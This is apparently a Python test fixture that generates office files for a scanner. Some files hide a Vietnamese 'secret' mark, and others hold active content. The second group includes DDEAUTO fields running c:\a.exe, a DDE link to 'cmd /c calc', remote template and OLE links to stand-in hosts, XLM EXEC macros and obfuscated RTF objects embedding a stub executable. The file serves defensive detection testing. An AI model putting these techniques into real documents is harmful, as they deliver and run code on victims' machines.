"""Places in office files where a mark or a program hides, one file for each technique.

`MARKED` files are marked secret in that place and nowhere else; `RUNNING` files load or start something.
Everything is stored, so that the files are the same wherever they are made.
"""

from __future__ import annotations

import base64
import struct

from tests.corpus.office import packaged, presentation, properties, sheets
from tests.corpus.ole import compound, word, word_streams
from tests.corpus.packing import stored

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_NAMES = (
    f'xmlns:w="{_W}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:wps="urn:wps" xmlns:c="urn:chart" '
    'xmlns:dgm="urn:dgm" xmlns:p="urn:p" xmlns:r="urn:r"'
)
PLAIN = "Sở A báo cáo kết quả thực hiện nhiệm vụ tháng 11."
MARK = ("MẬT", "Số: 12/CV-UBND")
WORD = word_streams(f"{PLAIN}\r")
PROGRAM = b"MZ" + b"\0" * 80


def run(text: str, props: str = "", tag: str = "t") -> str:
    """One run of Word text."""
    return f"<w:r>{props}<w:{tag}>{text}</w:{tag}></w:r>"


def lines(props: str = "", tag: str = "t") -> str:
    """Two paragraphs that carry the mark."""
    return "".join(f"<w:p>{run(line, props, tag)}</w:p>" for line in MARK)


def types(*overrides: tuple[str, str]) -> tuple[str, bytes]:
    """Content types with overrides."""
    found = "".join(f'<Override PartName="{name}" ContentType="{kind}"/>' for name, kind in overrides)
    head = '<Types><Default Extension="xml" ContentType="application/xml"/>'
    return "[Content_Types].xml", f"{head}{found}</Types>".encode()


def part(root: str, body: str, names: str = _NAMES) -> bytes:
    """An XML part."""
    return f'<?xml version="1.0"?><{root} {names}>{body}</{root}>'.encode()


def docx(body: str = "", *extra: tuple[str, bytes], names: str = _NAMES) -> bytes:
    """A Word package with twenty plain paragraphs before `body`, so that only what stands apart is near the top."""
    plain = "".join(f"<w:p>{run(PLAIN)}</w:p>" for _ in range(20))
    document = part("w:document", f"<w:body>{plain}{body}</w:body>", names)
    return stored(types(), ("word/document.xml", document), *extra)


def first(body: str, *extra: tuple[str, bytes]) -> bytes:
    """A Word package that begins with `body`."""
    return stored(types(), ("word/document.xml", part("w:document", f"<w:body>{body}</w:body>")), *extra)


def relation(kind: str, target: str, *, is_external: bool = True, office: str = _OFFICE) -> bytes:
    """A part of one relation."""
    mode = ' TargetMode="External"' if is_external else ""
    return f'<Relationships><Relationship Id="r1" Type="{office}/{kind}" Target="{target}"{mode}/></Relationships>'.encode()


def drawn(text: str) -> str:
    """A text box in both of its branches."""
    box = f"<w:txbxContent>{text}</w:txbxContent>"
    return (
        f"<w:p>{run('Kính gửi')}<w:r><mc:AlternateContent><mc:Choice><wps:txbx>{box}</wps:txbx></mc:Choice>"
        f"<mc:Fallback><w:pict><v:textbox>{box}</v:textbox></w:pict></mc:Fallback></mc:AlternateContent></w:r></w:p>"
    )


def shape(*texts: str) -> str:
    """A shape of a slide or a diagram."""
    inner = "".join(f"<a:p><a:r><a:t>{text}</a:t></a:r></a:p>" for text in texts)
    return f"<p:sp><p:txBody>{inner}</p:txBody></p:sp>"


def slides(*extra: tuple[str, bytes]) -> bytes:
    """A presentation of one slide."""
    slide = part("p:sld", shape(*[PLAIN] * 20))
    return stored(types(), ("ppt/slides/slide1.xml", slide), *extra)


def book(strings: str, sheet: str, *extra: tuple[str, bytes]) -> bytes:
    """A workbook of one sheet."""
    return stored(
        types(),
        ("xl/sharedStrings.xml", part("sst", strings)),
        ("xl/worksheets/sheet1.xml", part("worksheet", sheet)),
        *extra,
    )


_FILLED = "".join(f"<si><t>{PLAIN}</t></si>" for _ in range(20))
_ROWS = "".join(f'<row><c t="s"><v>{number}</v></c></row>' for number in range(20))
_ODF = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:text" xmlns:draw="urn:draw" '
    'xmlns:style="urn:style" xmlns:dc="urn:dc" xmlns:meta="urn:meta" xmlns:xlink="urn:xlink" xmlns:script="urn:script"'
)
_ODF_MARK = "".join(f"<text:p>{line}</text:p>" for line in MARK)
_ODF_PLAIN = f"<text:p>{PLAIN}</text:p>" * 20


def odf(body: str, *extra: tuple[str, bytes], kind: str = "text", plain: str = _ODF_PLAIN) -> bytes:
    """An OpenDocument file with twenty plain paragraphs before `body`."""
    content = part(
        "office:document-content", f"<office:body><office:text>{plain}{body}</office:text></office:body>", _ODF
    )
    mimetype = f"application/vnd.oasis.opendocument.{kind}".encode()
    return stored(("mimetype", mimetype), ("content.xml", content), ("META-INF/manifest.xml", b"<m/>"), *extra)


def rtf(text: str) -> bytes:
    """An RTF file; letters beyond ASCII as escapes."""
    units = "".join(char if ord(char) < 128 else f"\\u{ord(char)}?" for char in text)
    return b"{\\rtf1\\ansi\\ansicpg1252 " + units.encode("ascii") + b"}"


_RTF_PLAIN = (PLAIN + "\\par ") * 20
_RTF_MARK = "MẬT\\par Số: 12/CV-UBND\\par "
_CUSTOM = b"\xd5\xcd\xd5\x05\x2e\x9c\x10\x1b\x93\x97\x08\0\x2b\x2c\xf9\xae"


def custom_properties(text: str) -> bytes:
    """A document summary whose second set holds a property of the user's own."""
    raw = text.encode("utf-16-le") + b"\0\0"
    own = struct.pack("<IIII", 16 + 8 + len(raw), 1, 2, 16) + struct.pack("<II", 0x1F, len(raw) // 2) + raw
    none = struct.pack("<II", 8, 0)
    sets = b"\0" * 16 + struct.pack("<I", 68) + _CUSTOM + struct.pack("<I", 68 + len(none))
    return b"\xfe\xff\0\0" + b"\0" * 20 + struct.pack("<I", 2) + sets + none + own


def hexed(octets: bytes) -> str:
    """Digits of an embedded object with its OLE 1 head."""
    head = struct.pack("<II", 0x0501, 2) + struct.pack("<I", 8) + b"Package\0" + b"\0" * 8
    return (head + struct.pack("<I", len(octets)) + octets).hex()


_OBJECT = hexed(packaged("hoadon.exe", PROGRAM))
_FLAT = (
    '<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
    '<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part pkg:name="/word/document.xml">'
    f"<pkg:xmlData><w:document {_NAMES}><w:body>{{}}</w:body></w:document></pkg:xmlData></pkg:part>{{}}</pkg:package>"
)
_WORD_2003 = (
    '<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
    '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body>{}</w:body>{}</w:wordDocument>'
)
_EXCEL_2003 = (
    '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>'
    '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet><Table>{}</Table></Worksheet></Workbook>'
)
_MHTML = (
    "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=m\r\n\r\n--m\r\nContent-Location: file:///a.htm\r\n"
    "Content-Type: text/html; charset=utf-8\r\n\r\n<html><body><p>MẬT</p><p>Số: 12/CV-UBND</p></body></html>\r\n--m--\r\n"
)
_CORE = '<c xmlns:dc="d">{}</c>'
_FONT = '<w:rPr><w:rFonts w:ascii="{}"/></w:rPr>'
_TCVN3, _VNI = ("MËT", "Sè: 12/CV-UBND"), ("MAÄT", "Soá: 12/CV-UBND")


def _legacy(font: str, texts: tuple[str, str]) -> str:
    return "".join(f"<w:p>{run(text, _FONT.format(font))}</w:p>" for text in texts)


def _slide_part(*texts: str) -> bytes:
    return part("p:x", shape(*texts))


MARKED: dict[str, tuple[str, bytes]] = {
    "docx_body": ("a.docx", first(lines())),
    "docx_header": ("a.docx", docx("", ("word/header3.xml", part("w:hdr", lines())))),
    "docx_footer": ("a.docx", docx("", ("word/footer2.xml", part("w:ftr", lines())))),
    "docx_footnote": ("a.docx", docx("", ("word/footnotes.xml", part("w:footnotes", f"<w:footnote>{lines()}</w:footnote>")))),
    "docx_endnote": ("a.docx", docx("", ("word/endnotes.xml", part("w:endnotes", f"<w:endnote>{lines()}</w:endnote>")))),
    "docx_comment": (
        "a.docx",
        docx("", ("word/comments.xml", part("w:comments", f"<w:comment>{'<w:p><w:r><w:t>x</w:t></w:r></w:p>' * 20}</w:comment><w:comment>{lines()}</w:comment>"))),
    ),
    "docx_text_box": ("a.docx", docx(drawn(lines()))),
    "docx_word_art": ("a.docx", docx("", ("word/header1.xml", part("w:hdr", '<w:p><w:r><w:pict><v:shape><v:textpath string="MẬT"/></v:shape></w:pict></w:r></w:p>')))),
    "docx_deleted": ("a.docx", docx(f"<w:del>{lines(tag='delText')}</w:del>")),
    "docx_inserted": ("a.docx", first(f"<w:ins>{lines()}</w:ins>")),
    "docx_hidden": ("a.docx", first(lines("<w:rPr><w:vanish/></w:rPr>"))),
    "docx_white": ("a.docx", first(lines('<w:rPr><w:color w:val="FFFFFF"/></w:rPr>'))),
    "docx_control": ("a.docx", first(f"<w:sdt><w:sdtContent>{lines()}</w:sdtContent></w:sdt>")),
    "docx_field_result": ("a.docx", first(f"<w:p><w:r><w:fldChar/></w:r><w:r><w:instrText>DOCPROPERTY x</w:instrText></w:r><w:r><w:fldChar/></w:r>{run('MẬT')}</w:p><w:p>{run(MARK[1])}</w:p>")),
    "docx_split_runs": ("a.docx", first(f"<w:p>{run('M')}{run('Ậ')}{run('T')}</w:p><w:p>{run(MARK[1])}</w:p>")),
    "docx_custom_data": ("a.docx", docx("", ("customXml/item1.xml", part("d", "<muc>MẬT</muc>")))),
    "docx_title": ("a.docx", docx("", ("docProps/core.xml", _CORE.format("<dc:title>Độ mật: Mật</dc:title>").encode()))),
    "docx_custom_property": ("a.docx", docx("", ("docProps/custom.xml", "<p><property name='x'><vt:lpwstr xmlns:vt='v'>Độ mật: Mật</vt:lpwstr></property></p>".encode()))),
    "docx_diagram": ("a.docx", docx("", ("word/diagrams/data1.xml", part("dgm:m", f"<dgm:pt><dgm:t><a:p><a:r><a:t>{MARK[0]}</a:t></a:r></a:p></dgm:t></dgm:pt>")))),
    "docx_chart": ("a.docx", docx("", ("word/charts/chart1.xml", part("c:chart", "<c:tx><a:p><a:r><a:t>MẬT</a:t></a:r></a:p></c:tx>")))),
    "docx_chart_label": ("a.docx", docx("", ("word/charts/chart1.xml", part("c:chart", "<c:strCache><c:pt><c:v>MẬT</c:v></c:pt></c:strCache>")))),
    "docx_chunk_html": ("a.docx", docx("", ("word/afchunk.htm", "<html><p>MẬT</p><p>Số: 12/CV-UBND</p></html>".encode()))),
    "docx_chunk_rtf": ("a.docx", docx("", ("word/chunk1.dat", rtf(_RTF_MARK)))),
    "docx_chunk_docx": ("a.docx", docx("", ("word/chunk2.bin", first(lines())))),
    "docx_embedded_book": ("a.docx", docx("", ("word/khac/so.bin", book("<si><t>MẬT</t></si>", '<row><c t="s"><v>0</v></c></row>')))),
    "docx_embedded_pack": ("a.docx", docx("", ("word/embeddings/oleObject1.bin", packaged("a.docx", first(lines()))))),
    "docx_glossary": ("a.docx", docx("", ("word/glossary/document.xml", part("w:glossaryDocument", lines())))),
    "docx_strict": ("a.docx", stored(types(), ("word/document.xml", part("w:document", f"<w:body>{lines()}</w:body>", f'xmlns:w="{_STRICT}"')))),
    "docx_other_names": (
        "a.docx",
        stored(
            types(("/noi/dung.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")),
            ("noi/dung.xml", part("w:document", f"<w:body>{lines()}</w:body>")),
        ),
    ),
    "docx_named_styles": (
        "a.docx",
        stored(
            types(("/word/styles.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")),
            ("word/styles.xml", part("w:document", f"<w:body>{lines()}</w:body>")),
        ),
    ),
    "docx_upper_case": ("a.docx", stored(("[CONTENT_TYPES].XML", types()[1]), ("WORD/Document.xml", part("w:document", f"<w:body>{lines()}</w:body>")))),
    "docx_tcvn3": ("a.docx", first(_legacy(".VnTime", _TCVN3) + f"<w:p>{run(PLAIN)}</w:p>" * 3)),
    "docx_tcvn3_capitals": ("a.docx", first(_legacy(".VnTimeH", ("mËt", "sè: 12/CV-UBND")))),
    "docx_vni": ("a.docx", first(_legacy("VNI-Times", _VNI) + f"<w:p>{run(PLAIN)}</w:p>" * 3)),
    "docx_tcvn3_style": (
        "a.docx",
        first(
            f"<w:p><w:pPr><w:pStyle w:val='Dau'/></w:pPr>{run(_TCVN3[0])}</w:p><w:p>{run(MARK[1])}</w:p>",
            ("word/styles.xml", part("w:styles", '<w:style w:type="paragraph" w:styleId="Dau"><w:rPr><w:rFonts w:ascii=".VnTime"/></w:rPr></w:style>')),
        ),
    ),
    "xlsx_last_string": ("a.xlsx", book(_FILLED + "<si><t>MẬT</t></si>", f'<row><c t="s"><v>20</v></c></row>{_ROWS}')),
    "xlsx_hidden_sheet": (
        "a.xlsx",
        book(_FILLED, _ROWS, ("xl/workbook.xml", part("workbook", '<sheets><sheet name="An" state="veryHidden"/></sheets>')),
             ("xl/worksheets/sheet2.xml", part("worksheet", '<row hidden="1"><c t="inlineStr"><is><t>MẬT</t></is></c></row>'))),
    ),
    "xlsx_sheet_name": ("a.xlsx", book(_FILLED, _ROWS, ("xl/workbook.xml", part("workbook", '<sheets><sheet name="MẬT"/></sheets>')))),
    "xlsx_formula": ("a.xlsx", book(_FILLED, f'<row><c t="str"><f>"M"&amp;A1</f><v>MẬT</v></c></row>{_ROWS}')),
    "xlsx_page_header": ("a.xlsx", book(_FILLED, _ROWS + "<headerFooter><oddHeader>&amp;C&amp;14MẬT</oddHeader></headerFooter>")),
    "xlsx_comment": ("a.xlsx", book(_FILLED, _ROWS, ("xl/comments1.xml", part("comments", "<comment><text><r><t>MẬT</t></r></text></comment>")))),
    "xlsx_threaded": ("a.xlsx", book(_FILLED, _ROWS, ("xl/threadedComments/threadedComment1.xml", part("t", "<threadedComment><text>MẬT</text></threadedComment>")))),
    "xlsx_shape": ("a.xlsx", book(_FILLED, _ROWS, ("xl/drawings/drawing1.xml", _slide_part("MẬT")))),
    "xlsx_tcvn3_default": (
        "a.xlsx",
        book(f"<si><t>{_TCVN3[0]}</t></si>", '<row><c t="s"><v>0</v></c></row>', ("xl/styles.xml", b'<styleSheet><fonts><font><name val=".VnTime"/></font></fonts></styleSheet>')),
    ),
    "pptx_shape": ("a.pptx", slides(("ppt/slides/slide2.xml", part("p:sld", shape(*[PLAIN] * 20) + shape("MẬT"))))),
    "pptx_notes": ("a.pptx", slides(("ppt/notesSlides/notesSlide1.xml", part("p:notes", shape("MẬT"))))),
    "pptx_master": ("a.pptx", slides(("ppt/slideMasters/slideMaster1.xml", _slide_part("MẬT")))),
    "pptx_comment": ("a.pptx", slides(("ppt/comments/comment1.xml", part("p:cmLst", "<p:cm><p:text>MẬT</p:text></p:cm>")))),
    "pptx_hidden_slide": ("a.pptx", slides(("ppt/slides/slide3.xml", f'<p:sld {_NAMES} show="0">{shape("MẬT")}</p:sld>'.encode()))),
    "odt_header": ("a.odt", odf("", ("styles.xml", part("office:document-styles", f"<style:master-page><style:header>{_ODF_MARK}</style:header></style:master-page>", _ODF)))),
    "odt_footer": ("a.odt", odf("", ("styles.xml", part("office:document-styles", f"<style:footer>{_ODF_MARK}</style:footer>", _ODF)))),
    "odt_note": ("a.odt", odf(f"<text:p>x<text:note><text:note-body>{_ODF_MARK}</text:note-body></text:note></text:p>")),
    "odt_annotation": ("a.odt", odf(f"<text:p>x<office:annotation><dc:creator>A</dc:creator>{_ODF_MARK}</office:annotation></text:p>")),
    "odt_text_box": ("a.odt", odf(f"<text:p><draw:frame><draw:text-box>{_ODF_MARK}</draw:text-box></draw:frame></text:p>")),
    "odt_deleted": ("a.odt", odf(f"<text:tracked-changes><text:deletion>{_ODF_MARK}</text:deletion></text:tracked-changes>")),
    "odt_hidden": ("a.odt", odf('<text:p><text:hidden-text text:string-value="MẬT"/></text:p>')),
    "odt_title": ("a.odt", odf("", ("meta.xml", part("office:document-meta", "<dc:title>Độ mật: Mật</dc:title>", _ODF)))),
    "odt_custom_property": ("a.odt", odf("", ("meta.xml", part("office:document-meta", '<meta:user-defined meta:name="x">Độ mật: Mật</meta:user-defined>', _ODF)))),
    "odt_object": ("a.odt", odf("", ("Object 1/content.xml", part("office:document-content", _ODF_MARK, _ODF)))),
    "ods_sheet": ("a.ods", odf(_ODF_MARK, kind="spreadsheet", plain="")),
    "odp_notes": ("a.odp", odf(f"<p:notes xmlns:p='p'><draw:text-box>{_ODF_MARK}</draw:text-box></p:notes>", kind="presentation")),
    "fodt": ("a.fodt", part("office:document", f"<office:body><office:text>{_ODF_MARK}</office:text></office:body>", _ODF)),
    "flat_opc": ("a.doc", _FLAT.format(lines(), "").encode()),
    "word_2003_xml": ("a.doc", _WORD_2003.format(lines(), "").encode()),
    "excel_2003_xml": ("a.xls", _EXCEL_2003.format("<Row><Cell><Data>MẬT</Data></Cell></Row>").encode()),
    "mht_as_doc": ("a.doc", _MHTML.encode()),
    "html_as_doc": ("a.doc", "<html><body><p>MẬT</p><p>Số: 12/CV-UBND</p></body></html>".encode()),
    "html_as_xls": ("a.xls", "<html><table><tr><td>MẬT</td></tr></table></html>".encode()),
    "rtf_as_doc": ("a.doc", rtf(_RTF_MARK)),
    "rtf_header": ("a.rtf", rtf(_RTF_PLAIN + "{\\header " + _RTF_MARK + "}")),
    "rtf_footnote": ("a.rtf", rtf(_RTF_PLAIN + "{\\footnote " + _RTF_MARK + "}")),
    "rtf_text_box": ("a.rtf", rtf(_RTF_PLAIN + "{\\shp{\\*\\shpinst{\\shptxt " + _RTF_MARK + "}}}")),
    "rtf_word_art": ("a.rtf", rtf(_RTF_PLAIN + "{\\header{\\shp{\\*\\shpinst{\\sp{\\sn gtextUNICODE}{\\sv MẬT}}}}}")),
    "rtf_comment": ("a.rtf", rtf(_RTF_PLAIN + "{\\*\\annotation " + _RTF_MARK + "}")),
    "rtf_hidden": ("a.rtf", rtf("{\\v " + _RTF_MARK + "}" + _RTF_PLAIN)),
    "rtf_deleted": ("a.rtf", rtf(_RTF_PLAIN + "{\\deleted " + _RTF_MARK + "}")),
    "rtf_title": ("a.rtf", rtf("{\\info{\\title Độ mật: Mật}}" + _RTF_PLAIN)),
    "rtf_own_property": ("a.rtf", rtf("{\\*\\userprops{\\propname x}{\\staticval Độ mật: Mật}}" + _RTF_PLAIN)),
    "rtf_tcvn3": ("a.rtf", b"{\\rtf1\\ansi{\\fonttbl{\\f0\\fnil .VnTime;}{\\f1 Arial;}}\\f0 M\\'cbT\\par\\f1 So: 12/CV-UBND\\par}"),
    "rtf_vni": ("a.rtf", b"{\\rtf1\\ansi{\\fonttbl{\\f0\\fnil VNI-Times;}{\\f1 Arial;}}\\f0 MA\\'c4T\\par\\f1 So: 12/CV-UBND\\par}"),
    "rtf_windows_1258": ("a.rtf", b"{\\rtf1\\ansi\\ansicpg1252{\\fonttbl{\\f0\\fcharset163 Times;}}\\f0 M\\'c2\\'f2T\\par So: 12/CV-UBND\\par}"),
    "rtf_two_fallbacks": ("a.rtf", b"{\\rtf1\\ansi\\uc2 M\\u7852\\'3f\\'3fT\\par So: 12/CV-UBND\\par}"),
    "rtf_object": ("a.rtf", rtf(_RTF_PLAIN + "{\\object{\\*\\objdata " + hexed(packaged("a.docx", first(lines()))) + "}}")),
    "doc_header": ("a.doc", word(f"{PLAIN}\r" * 20 + "MẬT\r", headers=4)),
    "doc_text_box": ("a.doc", word(f"{PLAIN}\r" * 20 + "MẬT\r", boxes=4)),
    "doc_embedded": ("a.doc", compound({**WORD, "ObjectPool/_1/Workbook": sheets("MẬT")})),
    "doc_packed_pdf_place": ("a.doc", compound({**WORD, "ObjectPool/_1/Package": first(lines())})),
    "xls_page_header": ("a.xls", compound({"Workbook": sheets(*[PLAIN] * 20, header="&CMẬT")})),
    "xls_own_property": ("a.xls", compound({"Workbook": sheets("x"), "\x05DocumentSummaryInformation": custom_properties("Độ mật: Mật")})),
    "xls_title": ("a.xls", compound({"Workbook": sheets("x"), "\x05SummaryInformation": properties(title="Độ mật: Mật")})),
    "ppt_box": ("a.ppt", presentation(*[PLAIN] * 20, "MẬT")),
}  # fmt: skip

_VBA = compound({"VBA/dir": b"x"})
RUNNING: dict[str, tuple[str, bytes]] = {
    "docm_vba_elsewhere": ("a.docm", first("", ("khac/a.bin", _VBA), ("word/_rels/document.xml.rels", relation("vbaProject", "/khac/a.bin", is_external=False)))),
    "docx_template_external": ("a.docx", first("", ("word/_rels/settings.xml.rels", relation("attachedTemplate", "https://mau.example/a.dotm")))),
    "docx_template_strict": ("a.docx", first("", ("word/_rels/settings.xml.rels", relation("attachedTemplate", "https://mau.example/a.dotm", office="http://purl.oclc.org/ooxml/officeDocument/relationships")))),
    "docx_frame": ("a.docx", first("", ("word/_rels/webSettings.xml.rels", relation("frame", "https://khung.example/a.htm")))),
    "docx_object_link": ("a.docx", first("", ("word/_rels/document.xml.rels", relation("oleObject", "mhtml:https://x.example/a.html!x")))),
    "docx_dde": ("a.docx", first('<w:p><w:r><w:fldChar/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\a.exe "x"</w:instrText></w:r><w:r><w:fldChar/></w:r></w:p>')),
    "docx_dde_simple": ("a.docx", first('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\a.exe"/></w:p>')),
    "docx_active_x": ("a.docx", first("", ("word/activeX/activeX1.bin", b"x"))),
    "xlsx_dde": ("a.xlsx", book("", "", ("xl/externalLinks/externalLink1.xml", part("externalLink", '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')))),
    "xlsm_macro_sheet": ("a.xlsm", book("", "", ("xl/macrosheets/sheet1.xml", part("xm:macrosheet", "<c><f>EXEC(A1)</f></c>", 'xmlns:xm="m"')))),
    "xlsm_macro_sheet_elsewhere": ("a.xlsm", book("", "", ("xl/worksheets/sheet9.xml", part("xm:macrosheet", "<c><f>EXEC(A1)</f></c>", 'xmlns:xm="m"')))),
    "pptx_action": ("a.pptx", slides(("ppt/slides/slide2.xml", part("p:sld", '<a:hlinkClick action="ppaction://program"/>')))),
    "odt_script": ("a.odt", odf("", ("Basic/Standard/Module1.xml", b"<x/>"))),
    "odt_event": ("a.odt", odf('<office:event-listeners><script:event-listener script:event-name="dom:load"/></office:event-listeners>')),
    "odt_section_link": ("a.odt", odf('<text:section-source xlink:href="https://x.example/a.odt"/>')),
    "flat_opc_macro": ("a.doc", _FLAT.format("", f'<pkg:part pkg:name="/word/vbaProject.bin"><pkg:binaryData>{base64.b64encode(_VBA).decode()}</pkg:binaryData></pkg:part>').encode()),
    "flat_opc_template": ("a.doc", _FLAT.format("", relation("attachedTemplate", "https://x.example/a.dotm").decode()).encode()),
    "word_2003_macro": ("a.doc", _WORD_2003.format("", '<w:docSuppData><w:binData w:name="editdata.mso">QWN0aXZlTWltZQ==</w:binData></w:docSuppData>').encode()),
    "rtf_template": ("a.doc", rtf("{\\*\\template https://x.example/a.dotm}x")),
    "rtf_template_escaped": ("a.doc", rtf("{\\*\\template \\u104?\\'74tps://x.example/a.dotm}x")),
    "rtf_dde": ("a.rtf", rtf("{\\field{\\*\\fldinst DDEAUTO c:\\\\\\\\a.exe}{\\fldrslt x}}")),
    "rtf_object_blanks": ("a.rtf", rtf("{\\object\\objupdate{\\*\\objdata " + " \r\n".join(_OBJECT[at : at + 3] for at in range(0, len(_OBJECT), 3)) + "}}")),
    "rtf_object_words": ("a.rtf", rtf("{\\object{\\*\\objdata " + _OBJECT[:41] + "\\par{\\*\\la 1234}\\'20" + _OBJECT[41:] + "}}")),
    "rtf_object_odd": ("a.rtf", rtf("{\\object{\\*\\objdata 0" + _OBJECT + "}}")),
    "rtf_object_bin": ("a.rtf", b"{\\rtf1{\\object{\\*\\objdata\\bin%d " % (len(_OBJECT) // 2) + bytes.fromhex(_OBJECT) + b"}}}"),
    "rtf_object_bare": ("a.rtf", rtf("{\\object{\\*\\objdata " + packaged("hoadon.exe", PROGRAM).hex() + "}}")),
    "rtf_object_deep": ("a.rtf", b"{\\rtf1" + b"{" * 30_000 + b"{\\*\\objdata " + _OBJECT.encode() + b"}" + b"}" * 30_000 + b"}"),
    "doc_dde": ("a.doc", word("\x13DDEAUTO c:\\a.exe\x14x\x15\r")),
    "doc_packaged_deep": ("a.doc", compound({**WORD, "ObjectPool/_1/\x01Ole10Native": struct.pack("<I", 200) + b"\x02\0a.exe\0C:\\a.exe\0" + struct.pack("<II", 0x30000, 6) + b"a.exe\0" + struct.pack("<I", 82) + PROGRAM})),
    "ppt_object": ("a.ppt", presentation("x", objects=(packaged("a.exe", PROGRAM),))),
}  # fmt: skip
